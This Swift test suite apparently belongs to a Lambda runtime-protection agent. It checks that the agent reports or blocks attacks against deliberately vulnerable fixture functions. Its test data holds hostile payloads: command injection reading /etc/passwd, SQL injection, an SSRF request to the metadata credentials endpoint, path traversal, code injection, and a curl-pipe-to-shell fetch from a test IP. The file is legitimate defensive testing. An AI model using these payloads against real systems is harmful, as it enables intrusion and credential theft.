import Foundation
import PalisadeHTTP
import PalisadeJSON
import PalisadeLocal
import Testing

/// The agent between a real runtime (awslambdaric) and our emulator, against a vulnerable function.
@Suite(.timeLimit(.minutes(3))) struct PythonAgentTests {
    static let attacks: [(path: String, query: [String: String], category: String)] = [
        ("/exec", ["cmd": ";cat /etc/passwd"], "cmdi"),
        ("/users", ["id": "' OR 1=1--"], "sqli"),
        ("/fetch", ["url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"], "ssrf"),
        ("/file", ["name": "../../../../etc/passwd"], "traversal"),
        ("/calc", ["expr": "__import__('os').system('id')"], "code"),
    ]

    static let benign: [(path: String, query: [String: String], expected: String)] = [
        ("/exec", ["cmd": "hello"], #"{"output": "hello\n"}"#),
        ("/users", ["id": "1"], #"{"users": ["ada"]}"#),
        ("/file", ["name": "readme.txt"], #"{"content": "public notes\n"}"#),
        ("/calc", ["expr": "6*7"], #"{"result": 42}"#),
        ("/", ["name": "O'Brien"], #"{"hello": "O'Brien"}"#),
    ]

    @Test(arguments: ["report", "mitigate"])
    func benignRequestsGetTheFunctionsAnswer(mode: String) async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_MODE": mode]) { local in
            var answers: [String] = []
            for request in Self.benign {
                answers.append(try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent(request.path, request.query))).body)
            }
            return answers
        }
        #expect(outcome.value == Self.benign.map(\.expected))
        #expect(outcome.events.isEmpty, "benign requests raised \(outcome.eventSummary)")
    }

    @Test func reportModeLetsAttacksRunAndRecordsThem() async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_MODE": "report"]) { local in
            try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": ";cat /etc/passwd"])))
        }
        #expect(outcome.value.status == 200)
        #expect(outcome.value.body.contains("root:"), "the injected command ran, as report mode allows")
        #expect(outcome.eventSummary.contains("cmdi/reported"))
        let event = try #require(outcome.events.first).root
        #expect(event["trigger"]?.string == "api-gateway-rest")
        #expect(event["sourceIp"]?.string == "203.0.113.9")
        #expect(event["function"]?.string == "orders-api")
        #expect(event["location"]?.string == "queryStringParameters.cmd")
        #expect(outcome.log.contains(#""_aws":{"#), "an EMF metric line reaches the log")
    }

    @Test func mitigateModeAnswersAttacksWith403() async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_MODE": "mitigate"]) { local in
            var answers: [(Int, String)] = []
            for attack in Self.attacks {
                answers.append(try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent(attack.path, attack.query))))
            }
            return answers
        }
        for (attack, answer) in zip(Self.attacks, outcome.value) {
            #expect(answer.0 == 403, "\(attack.path) was not blocked")
            #expect(answer.1.contains("incidentId"))
            #expect(outcome.eventSummary.contains("\(attack.category)/blocked"), "no \(attack.category) event in \(outcome.eventSummary)")
        }
    }

    @Test func poisonedSQSRecordIsRemovedAndTheRestProcessed() async throws {
        let outcome = try await Fixtures.run(Fixtures.python("app.sqs_handler"), environment: ["PALISADE_MODE": "mitigate"]) { local in
            let clean = await local.invoke(Fixtures.sqsEvent([#"{"order": 1}"#, #"{"order": "1; DROP TABLE orders--"}"#, #"{"order": 3}"#]))
            let allPoisoned = await local.invoke(Fixtures.sqsEvent(["$(curl http://203.0.113.5/x | sh)"]))
            return (Fixtures.text(clean.body), Fixtures.text(allPoisoned.body))
        }
        #expect(outcome.value.0 == #"{"processed": ["m0", "m2"]}"#)
        #expect(outcome.value.1 == #"{"batchItemFailures":[]}"#, "a batch with only poisoned records is acknowledged without running the function")
        #expect(outcome.events.allSatisfy { $0.root["action"]?.string == "blocked" })
        #expect(outcome.events.contains { $0.root["record"]?.string == nil && Fixtures.text($0.root["record"]?.stringBytes ?? []) == "1" },
                "no event for record 1 in \(outcome.eventSummary); log:\n\(outcome.log.suffix(2000))")
    }

    @Test func credentialsNeverLeaveInAResponse() async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_MODE": "mitigate"]) { local in
            await local.invoke(Fixtures.apiEvent("/debug", ["env": "1"]))
        }
        let body = Fixtures.text(outcome.value.body)
        for value in Fixtures.credentials.values {
            #expect(!body.contains(value))
            #expect(!body.contains(value.replacingOccurrences(of: "/", with: "\\/")))
        }
        #expect(try Fixtures.httpAnswer(outcome.value).status == 500)
        #expect(outcome.eventSummary.contains("credential-leak/blocked"))
    }

    @Test func stackTracesIn5xxAreMaskedBehindAnIncidentID() async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_MODE": "mitigate"]) { local in
            try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/crash")))
        }
        #expect(outcome.value.status == 500)
        #expect(!outcome.value.body.contains("Traceback"))
        let incident = try #require(try JSONDocument(outcome.value.body).root["incidentId"]?.string)
        #expect(outcome.events.contains { $0.root["incidentId"]?.string == incident && $0.root["category"]?.string == "verbose-errors" })
    }

    @Test func malformedEventStillReachesTheFunction() async throws {
        let outcome = try await Fixtures.run(Fixtures.python("app.noop"), environment: ["PALISADE_MODE": "mitigate"]) { local in
            await local.invoke(Array("{not json".utf8))
        }
        // awslambdaric itself rejects the bytes: the event reached the runtime untouched.
        #expect(outcome.value.outcome == .error(type: "Runtime.UnmarshalError", body: outcome.value.body))
        #expect(outcome.log.contains("event not inspected"))
    }

    @Test func headersAndContextPassThroughTheProxy() async throws {
        let outcome = try await Fixtures.run(Fixtures.python("app.echo")) { local in
            await local.invoke(
                Array(#"{"detail": "x"}"#.utf8),
                context: InvocationContext(clientContext: #"{"custom": {"tenant": "t-42"}}"#, cognitoIdentity: #"{"cognitoIdentityId": "us-east-1:abc"}"#)
            )
        }
        let root = try JSONDocument(bytes: outcome.value.body).root
        #expect(root["requestId"]?.string == outcome.value.requestID)
        #expect(root["functionArn"]?.string == "arn:aws:lambda:us-east-1:000000000000:function:orders-api")
        #expect(root.value(at: "clientContext", "tenant")?.string == "t-42")
        #expect(root["cognitoIdentityId"]?.string == "us-east-1:abc")
    }

    @Test func largeEventPassesIntact() async throws {
        let large = Array(#"{"blob": ""#.utf8) + Array(repeating: UInt8(ascii: "a"), count: 5 << 20) + Array(#""}"#.utf8)
        // Debug builds inspect 5 MB slowly on a busy CI machine: the point is that it arrives whole.
        let outcome = try await Fixtures.run(Fixtures.python("app.echo"), environment: ["PALISADE_MODE": "mitigate"], invocationTimeout: .seconds(150)) { local in
            await local.invoke(large)
        }
        let root = try JSONDocument(bytes: outcome.value.body).root
        #expect(root.value(at: "event", "blob")?.stringBytes.count == 5 << 20)
    }

    @Test func policyExceptionLetsAKnownInputThrough() async throws {
        let policy = #"{"mode": "mitigate", "exceptions": [{"location": "queryStringParameters.cmd", "pattern": "*id*"}]}"#
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_POLICY": policy]) { local in
            (
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": "; id"]))).status,
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": ";cat /etc/passwd"]))).status
            )
        }
        #expect(outcome.value.0 == 200)
        #expect(outcome.value.1 == 403)
    }

    @Test func brokenPolicyIsALogLineAndTheFunctionStillRuns() async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_POLICY": #"{"mode": "block"}"#]) { local in
            try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": ";cat /etc/passwd"]))).status
        }
        #expect(outcome.value == 200, "the safe default reports and does not block")
        #expect(outcome.log.contains("policy.unknown_mode"))
        #expect(outcome.eventSummary.contains("cmdi/reported"))
    }
}

/// What happens when the agent is gone: fail-open by default, refusal with PALISADE_FAIL_CLOSED=1.
@Suite(.timeLimit(.minutes(3))) struct AgentFailSafeTests {
    @Test func functionStillAnswersWhenTheAgentIsKilled() async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_MODE": "mitigate"]) { local in
            let before = try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/", ["name": "before"])))
            await local.killAgent()
            try await Fixtures.waitForLog(local, containing: "agent unavailable")
            let after = try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/", ["name": "after"])))
            return (before.body, after.body)
        }
        #expect(outcome.value.0 == #"{"hello": "before"}"#)
        #expect(outcome.value.1 == #"{"hello": "after"}"#)
        #expect(outcome.log.contains("fail-open"))
    }

    @Test func failClosedRefusesInvocationsWhenTheAgentIsKilled() async throws {
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_FAIL_CLOSED": "1"]) { local in
            await local.killAgent()
            try await Fixtures.waitForLog(local, containing: "agent unavailable")
            return await local.invoke(Fixtures.apiEvent("/", ["name": "after"]))
        }
        guard case .error(let type, _) = outcome.value.outcome else {
            Issue.record("the invocation ran without protection: \(Fixtures.text(outcome.value.body))")
            return
        }
        #expect(type == "Palisade.AgentUnavailable")
    }

    @Test func functionRunsWhenTheAgentCannotStart() async throws {
        // A proxy port that is already taken: the agent registers but cannot protect.
        let occupant = try await LoopbackHTTPServer.start { _ in }
        defer { Task { await occupant.close() } }
        let outcome = try await Fixtures.run(Fixtures.python(), environment: ["PALISADE_PROXY_PORT": String(occupant.address.port)]) { local in
            try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/", ["name": "x"]))).body
        }
        #expect(outcome.value == #"{"hello": "x"}"#)
        #expect(outcome.log.contains("proxy did not start"))
        #expect(outcome.log.contains("fail-open"))
    }
}

@Suite(.timeLimit(.minutes(3))) struct NodeAgentTests {
    @Test func nodeFunctionIsProtectedToo() async throws {
        let outcome = try await Fixtures.run(Fixtures.node(), environment: ["PALISADE_MODE": "mitigate"]) { local in
            (
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": "hi"]))),
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": "$(id)"]))),
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/crash"))),
                Fixtures.text(await local.invoke(Fixtures.apiEvent("/debug", ["env": "1"])).body)
            )
        }
        #expect(outcome.value.0.status == 200 && outcome.value.0.body == #"{"output":"hi\n"}"#)
        #expect(outcome.value.1.status == 403)
        #expect(outcome.value.2.status == 500 && !outcome.value.2.body.contains("    at "))
        #expect(!outcome.value.3.contains(Fixtures.credentials["AWS_SECRET_ACCESS_KEY"] ?? "?"))
        #expect(Set(outcome.eventSummary).isSuperset(of: ["cmdi/blocked", "verbose-errors/blocked", "credential-leak/blocked"]))
    }
}

/// Runtimes that Trend Micro's and Prisma's layers leave out: the agent sits in front of the Runtime
/// API, so a JVM or a bash-and-curl custom runtime is protected the same way.
@Suite(.timeLimit(.minutes(3))) struct OtherRuntimeAgentTests {
    @Test func javaFunctionIsProtectedToo() async throws {
        let outcome = try await Fixtures.run(Fixtures.java(), environment: ["PALISADE_MODE": "mitigate"]) { local in
            (
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": "hi"]))),
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": "$(id)"]))),
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/crash"))),
                Fixtures.text(await local.invoke(Fixtures.apiEvent("/debug", ["env": "1"])).body),
                await local.invoke(Fixtures.apiEvent("/fail")),
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/", ["name": "ada"])))
            )
        }
        let (benign, injected, crash, debug, failure, hello) = outcome.value
        #expect(benign.status == 200 && benign.body == #"{"output":"hi\n"}"#, "\(outcome.log)")
        #expect(injected.status == 403)
        #expect(crash.status == 500 && !crash.body.contains("\tat example.App"), "the Java stack trace is withheld: \(crash.body)")
        #expect(!debug.contains(Fixtures.credentials["AWS_SECRET_ACCESS_KEY"] ?? "?"))
        guard case .error(let type, _) = failure.outcome else {
            Issue.record("an exception is a function error: \(failure)")
            return
        }
        #expect(type == "java.lang.IllegalStateException")
        #expect(hello.status == 200 && hello.body == #"{"hello":"ada"}"#, "the runtime still serves after an error")
        #expect(Set(outcome.eventSummary).isSuperset(of: ["cmdi/blocked", "verbose-errors/blocked", "credential-leak/blocked"]))
    }

    @Test(arguments: ["report", "mitigate"])
    func customRuntimeIsProtectedToo(mode: String) async throws {
        let outcome = try await Fixtures.run(Fixtures.provided(), environment: ["PALISADE_MODE": mode]) { local in
            (
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": "hi"]))),
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/exec", ["cmd": "x; id -un"]))),
                try Fixtures.httpAnswer(await local.invoke(Fixtures.apiEvent("/", ["name": "ada"])))
            )
        }
        let (benign, injected, hello) = outcome.value
        #expect(benign.status == 200 && benign.body == #"{"output":"hi"}"#, "\(outcome.log)")
        #expect(hello.status == 200 && hello.body == #"{"hello":"ada"}"#)
        if mode == "mitigate" {
            #expect(injected.status == 403)
            #expect(outcome.eventSummary.contains("cmdi/blocked"))
        } else {
            #expect(injected.status == 200 && injected.body.hasPrefix(#"{"output":"x"#), "report mode lets the injected command run: \(injected)")
            #expect(outcome.eventSummary.contains("cmdi/reported"))
        }
    }
}
